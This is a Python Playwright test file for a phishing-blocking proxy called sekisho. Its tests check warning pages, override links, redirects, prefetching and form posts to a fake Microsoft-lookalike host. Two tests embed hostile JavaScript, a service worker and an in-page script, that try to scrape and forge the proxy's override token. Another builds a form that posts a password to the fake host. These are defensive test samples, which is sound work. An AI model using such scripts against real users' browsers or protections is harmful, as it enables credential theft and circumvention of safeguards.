"""The story, clicked in a real browser: what the mother sees, and what the server behind the link hears."""

import hashlib
import time
from collections.abc import Iterator

import pytest
from playwright.sync_api import BrowserContext, Page, Playwright

from sekisho.portal.family_mark import FamilyMark, write_mark
from sekisho.store import Store

from .conftest import CLEAN, FAKE, FAMILIAR, OTHER, Proxy, open_browser, until
from .origins import Answer, Origins
from .raw import certificate_through, status_of, through

pytestmark = [pytest.mark.browser, pytest.mark.usefixtures("quiet")]


@pytest.fixture(autouse=True)
def forgotten(proxy: Proxy) -> Iterator[None]:
    """What a test opened is shut, and what it chose is undone, before the next one begins."""
    yield
    write_mark(proxy.state, FamilyMark())
    shut(proxy)


def shut(proxy: Proxy) -> set[str]:
    """End every decision, as the family does, and wait until it counts; the hosts that were open."""
    with Store.open(f"sqlite:///{proxy.state / 'sekisho.db'}") as store:
        hosts = {decision.host for decision in store.decisions.in_force(time.time())}
        for host in hosts:
            store.decisions.end_on(host, by="test", at=time.time())
    for host in hosts:
        until(lambda host=host: status_of(proxy, f"http://{host}/") == 403)  # type: ignore[misc]
    return hosts


def open_page(browser: BrowserContext, url: str) -> tuple[Page, int]:
    """A new tab at this address, and the status that it got."""
    page = browser.new_page()
    response = page.goto(url, wait_until="load")
    assert response
    return page, response.status


def go_on(page: Page) -> None:
    """What a person does who means it: details, go on, the form."""
    page.locator("details summary").first.click()
    page.locator('a[href$="/on"]').click()
    page.wait_for_url("**/sekisho.internal/w/*/on")
    page.locator('input[value="this"]').check()
    page.locator("form button").click()
    page.wait_for_load_state("load")


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_the_story_s_click_gets_the_warning_and_the_server_hears_nothing(
    browser: BrowserContext, origins: Origins, scheme: str
) -> None:
    origins[FAKE].page("/", "steals passwords")
    page, status = open_page(browser, f"{scheme}://{FAKE}/?mail=mother@example.com")
    assert status == 403
    text = page.locator("body").inner_text()
    assert "マイクロソフト" in text or "Microsoft" in text
    assert page.locator('a[href^="https://microsoft.com"], a[href^="https://www.microsoft.com"]').count() >= 1
    assert "".join(page.locator("mark").all_inner_texts()).count("0") >= 2
    assert page.locator("script, form, iframe").count() == 0
    assert origins[FAKE].connections == 0


def test_an_english_reader_gets_english(playwright: Playwright, proxy: Proxy, origins: Origins) -> None:
    context = open_browser(playwright, proxy.state.parent / "english", proxy, "en-GB")
    page, status = open_page(context, f"https://{FAKE}/")
    assert status == 403
    assert page.locator("html").get_attribute("lang") == "en"
    assert "Microsoft" in page.locator("body").inner_text()
    context.close()
    assert origins[FAKE].connections == 0


def test_to_go_on_opens_the_site_with_its_pictures_once_for_this_device_and_it_closes_again(
    browser: BrowserContext, origins: Origins, proxy: Proxy
) -> None:
    origins[FAKE].page("/", f'<title>opened</title><img src="https://img.{FAKE}/a.svg">')
    origins[FAKE].page("/a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>', "image/svg+xml")
    page, _ = open_page(browser, f"https://{FAKE}/")
    go_on(page)
    form = page.url
    assert origins[FAKE].connections == 0
    page.locator(f'a[href^="https://{FAKE}/"]').click()
    page.wait_for_url(f"https://{FAKE}/")
    assert page.title() == "opened"
    assert {path for _, path, _ in origins[FAKE].requests} >= {"/", "/a.svg"}
    assert through(proxy, "GET", f"http://{FAKE}/", client="127.0.0.2")[0] == 403
    again = browser.new_page()
    again.goto(form)
    assert again.locator("form").count() == 0
    assert shut(proxy) == {FAKE}
    until(lambda: open_page(browser, f"https://{FAKE}/")[1] == 403)


@pytest.mark.parametrize("scheme", ["https", "http"])
def test_where_the_family_chose_a_phrase_the_warning_shows_it_and_help_is_one_tap_away(
    browser: BrowserContext, origins: Origins, proxy: Proxy, scheme: str
) -> None:
    write_mark(proxy.state, FamilyMark("さくら餅"))
    page, status = open_page(browser, f"{scheme}://{FAKE}/?mail=mother@example.com")
    assert status == 403
    assert page.url.startswith(f"{scheme}://sekisho.internal/w/")
    assert "さくら餅" in page.locator("main").inner_text()
    assert "mother@example.com" not in page.content()
    page.locator('a[href$="/typed"]').click()
    page.locator('a[href$="/typed/password"]').click()
    page.wait_for_url("**/typed/password")
    assert page.locator('main a[href="https://microsoft.com/"]').count() == 1
    assert "#9110" in page.locator("main").inner_text()
    assert origins[FAKE].connections == 0
    page.go_back()
    page.go_back()
    go_on(page)
    page.locator(f'a[href^="{scheme}://{FAKE}/"]').wait_for()
    assert origins[FAKE].connections == 0


def test_a_familiar_site_is_served_with_its_own_certificate_and_unchanged(
    browser: BrowserContext, origins: Origins, proxy: Proxy
) -> None:
    origins[FAMILIAR].page("/secret/path", "<title>familiar</title>")
    issuer, headers, body = certificate_through(proxy, FAMILIAR, "/secret/path")
    assert issuer == "origin authority of the tests"
    assert headers["cache-control"] == "max-age=600"
    assert body == b"<title>familiar</title>"
    issuer, headers, _ = certificate_through(proxy, CLEAN, "/")
    assert issuer == "sekisho"
    page, status = open_page(browser, f"http://{FAMILIAR}/secret/path")
    assert (status, page.title()) == (200, "familiar")
    assert "secret" not in proxy.said.read_text()
    assert FAMILIAR.encode() not in (proxy.state / "sekisho.db").read_bytes()


def test_a_link_in_a_familiar_page_is_caught_and_the_way_back_leads_there(
    browser: BrowserContext, origins: Origins
) -> None:
    origins[FAMILIAR].page(
        "/mail", f'<meta name="referrer" content="unsafe-url"><a href="http://{FAKE}/">今すぐ認証</a>'
    )
    page, _ = open_page(browser, f"http://{FAMILIAR}/mail")
    page.get_by_text("今すぐ認証").click()
    page.wait_for_url(f"http://{FAKE}/")
    page.locator(f'a[href="http://{FAMILIAR}/mail"]').first.click()
    page.wait_for_url(f"http://{FAMILIAR}/mail")
    assert origins[FAKE].connections == 0


def test_a_clean_unfamiliar_site_loads_and_is_not_kept_by_the_browser(
    browser: BrowserContext, origins: Origins
) -> None:
    origins[CLEAN].page("/", "<title>tofu</title>")
    page = browser.new_page()
    response = page.goto(f"https://{CLEAN}/")
    assert response
    assert page.title() == "tofu"
    assert response.headers["cache-control"] == "no-store"


def test_every_hop_of_a_redirect_is_judged(browser: BrowserContext, origins: Origins) -> None:
    origins[CLEAN].pages["/"] = (302, {"Location": f"https://{OTHER}/"}, b"")
    origins[OTHER].pages["/"] = (302, {"Location": f"https://{FAKE}/"}, b"")
    page, status = open_page(browser, f"https://{CLEAN}/")
    assert (page.url, status) == (f"https://{FAKE}/", 403)
    assert origins[OTHER].requests
    assert origins[FAKE].connections == 0


def test_a_blocked_part_of_a_page_fails_quietly(browser: BrowserContext, origins: Origins) -> None:
    origins[CLEAN].page(
        "/",
        f'<title>tofu</title><script src="https://{FAKE}/a.js"></script><iframe src="https://{FAKE}/"></iframe>',
    )
    page, status = open_page(browser, f"https://{CLEAN}/")
    assert (page.title(), status) == ("tofu", 200)
    fetched = page.evaluate(
        f"fetch('https://{FAKE}/x', {{mode: 'no-cors'}}).then(r => r.type, e => 'failed')"
    )
    assert fetched in {"opaque", "failed"}
    assert origins[FAKE].connections == 0


def test_a_guess_ahead_leaks_nothing_and_the_click_is_judged(
    browser: BrowserContext, origins: Origins
) -> None:
    rules = (
        f'{{"prefetch": [{{"urls": ["https://{OTHER}/"], "eagerness": "immediate"}}], '
        f'"prerender": [{{"urls": ["https://{CLEAN}/next"], "eagerness": "immediate"}}]}}'
    )
    origins[CLEAN].page(
        "/",
        f'<link rel="prefetch" href="https://{FAKE}/"><script type="speculationrules">{rules}</script>'
        f'<a href="https://{FAKE}/">fake</a> <a href="https://{OTHER}/">clean</a>',
    )
    origins[CLEAN].page("/next", "next")
    origins[OTHER].page("/", "<title>flowers</title>")
    page, _ = open_page(browser, f"https://{CLEAN}/")
    page.wait_for_load_state("networkidle")
    assert origins[FAKE].connections == origins[OTHER].connections == 0
    assert "/next" not in {path for _, path, _ in origins[CLEAN].requests}
    page.get_by_text("clean").click()
    page.wait_for_url(f"https://{OTHER}/")
    assert page.title() == "flowers"
    page.go_back()
    page.get_by_text("fake").click()
    page.wait_for_url(f"https://{FAKE}/")
    assert page.locator("mark").count() > 0
    assert origins[FAKE].connections == 0


def test_a_form_to_a_fake_is_not_sent_and_is_opened_again_without_it(
    browser: BrowserContext, origins: Origins
) -> None:
    origins[CLEAN].page(
        "/",
        f'<form method="post" action="https://{FAKE}/login"><input name="p" value="secret"><button>go</button></form>',
    )
    origins[FAKE].page("/login", "<title>opened</title>")
    page, _ = open_page(browser, f"https://{CLEAN}/")
    page.get_by_role("button").click()
    page.wait_for_url(f"https://{FAKE}/login")
    go_on(page)
    page.locator(f'a[href^="https://{FAKE}/login"]').click()
    page.wait_for_url(f"https://{FAKE}/login")
    assert [(method, path) for method, path, _ in origins[FAKE].requests if path == "/login"] == [
        ("GET", "/login")
    ]


def test_attack_a_service_worker_of_the_site_cannot_open_it(
    playwright: Playwright, proxy: Proxy, origins: Origins, browser: BrowserContext
) -> None:
    """The worker was there before sekisho: it was registered while the browser went without it."""
    worker = """
        self.addEventListener('fetch', event => event.respondWith((async () => {
            const answer = await fetch(event.request);
            const text = await answer.clone().text();
            const link = /https:..sekisho.internal.w.[A-Za-z0-9_-]+/.exec(text);
            if (link) {
                for (const mode of ['no-cors', 'cors', 'same-origin'])
                    for (const body of ['', 'token=' + text.length, text.slice(0, 200)])
                        try {
                            await fetch(link[0], {method: 'POST', mode, body: new URLSearchParams(body)});
                        } catch (e) {}
            }
            return answer;
        })()));
        self.addEventListener('activate', event => event.waitUntil(clients.claim()));
        self.addEventListener('install', event => self.skipWaiting());
    """
    origins[FAKE].page("/sw.js", worker, "text/javascript")
    origins[FAKE].page(
        "/", "<title>hostile</title><script>navigator.serviceWorker.register('/sw.js')</script>"
    )
    page, _ = open_page(browser, f"https://{FAKE}/")
    go_on(page)
    page.locator(f'a[href^="https://{FAKE}/"]').click()
    page.wait_for_url(f"https://{FAKE}/")
    registered = page.evaluate("navigator.serviceWorker.register('/sw.js').then(() => 'yes', () => 'no')")
    assert registered == "no"  # 403 to scripts of workers
    assert "/sw.js" not in {path for _, path, _ in origins[FAKE].requests}
    assert shut(proxy) == {FAKE}
    until(lambda: open_page(browser, f"https://{FAKE}/")[1] == 403)
    before = len(origins[FAKE].requests)
    open_page(browser, f"https://{FAKE}/")
    assert open_page(browser, f"https://{FAKE}/")[1] == 403
    assert len(origins[FAKE].requests) == before


def test_attack_a_script_on_plain_http_cannot_open_its_own_site(
    browser: BrowserContext, origins: Origins, proxy: Proxy
) -> None:
    """The page was loaded while the host was open; then it is warned, and its script goes on living."""
    origins[FAKE].page("/", "<title>hostile</title>")
    page, _ = open_page(browser, f"http://{FAKE}/")
    go_on(page)
    page.locator(f'a[href^="http://{FAKE}/"]').click()
    page.wait_for_url(f"http://{FAKE}/")
    assert shut(proxy) == {FAKE}
    before = origins[FAKE].connections, len(origins[FAKE].requests)
    stolen = page.evaluate(
        """async () => {
            const answer = await fetch('/', {headers: {'Upgrade-Insecure-Requests': '1', 'Accept': 'text/html'}});
            const text = await answer.text();
            const link = /http:..sekisho.internal.w.[A-Za-z0-9_-]+/.exec(text);
            if (!link) return {status: answer.status, link: null, token: null};
            let read = '';
            try { read = await (await fetch(link[0])).text(); } catch (e) { read = ''; }
            const token = /name="token" value="([^"]+)"/.exec(read);
            const guess = {method: 'POST', mode: 'no-cors', body: new URLSearchParams('token=x')};
            try { await fetch(link[0], guess); } catch (e) {}
            return {status: answer.status, link: link[0], token: token && token[1], form: text.includes('<form')};
        }"""
    )
    assert stolen["status"] == 403
    assert stolen["token"] is None
    assert not stolen.get("form")
    assert through(proxy, "GET", f"http://{FAKE}/")[0] == 403
    assert (origins[FAKE].connections, len(origins[FAKE].requests)) == before


def test_a_large_download_and_a_large_form_come_through_whole(proxy: Proxy, origins: Origins) -> None:
    blob = bytes(range(256)) * 40_000
    origins[CLEAN].page("/file", blob, "application/octet-stream")
    got: list[str] = []

    def keep(handler: object) -> Answer:
        got.append(hashlib.sha256(origins[CLEAN].requests[-1][2]).hexdigest())
        return 200, {}, b"thanks"

    origins[CLEAN].pages["/form"] = keep
    assert through(proxy, "GET", f"http://{CLEAN}/file")[1] == blob
    assert through(proxy, "POST", f"http://{CLEAN}/form", blob)[1] == b"thanks"
    assert got == [hashlib.sha256(blob).hexdigest()]
